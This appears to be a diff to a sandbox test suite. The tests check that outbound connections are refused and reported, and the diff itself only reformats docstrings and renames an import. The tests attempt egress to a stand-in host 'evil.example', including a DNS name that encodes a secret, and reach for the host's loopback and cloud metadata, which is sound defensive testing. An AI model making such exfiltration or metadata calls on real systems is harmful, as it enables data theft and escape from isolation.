@@ -7,13 +7,16 @@ import os
 import socket
 from typing import Any
 
-from conftest import Attempt
+from boxes import Attempt
 
 EVIL = "evil.example"
 
 
 def test_exfiltration(attempt: Attempt, netns_egress: Any, box: Any) -> None:
-    """What is not allowed is refused and reported as the box's: by name, by address, by another's name (CVE-2025-55284: DNS)."""
+    """What is not allowed is refused and reported as the box's: by name, by address, by another's name.
+
+    CVE-2025-55284: DNS.
+    """
     done = attempt(f"""
 tell("name", lambda: socket.getaddrinfo({EVIL!r}, 443))
 tell("hidden in a name", lambda: socket.getaddrinfo("c2vjcmv0.{EVIL}", 443))
@@ -71,7 +74,10 @@ def test_leaf_is_shared(attempt: Attempt) -> None:
 
 
 def test_host_loopback(attempt: Attempt) -> None:
-    """The host's own loopback, and a cloud's metadata service, are not reached (Capital One, 2019; CVE-2019-5021's kin)."""
+    """The host's own loopback, and a cloud's metadata service, are not reached.
+
+    Capital One, 2019; CVE-2019-5021's kin.
+    """
     port = os.environ["OUTSIDE_PORT"]
     done = attempt(f"""
 tell("loopback", lambda: socket.create_connection(("127.0.0.1", {port}), 5))
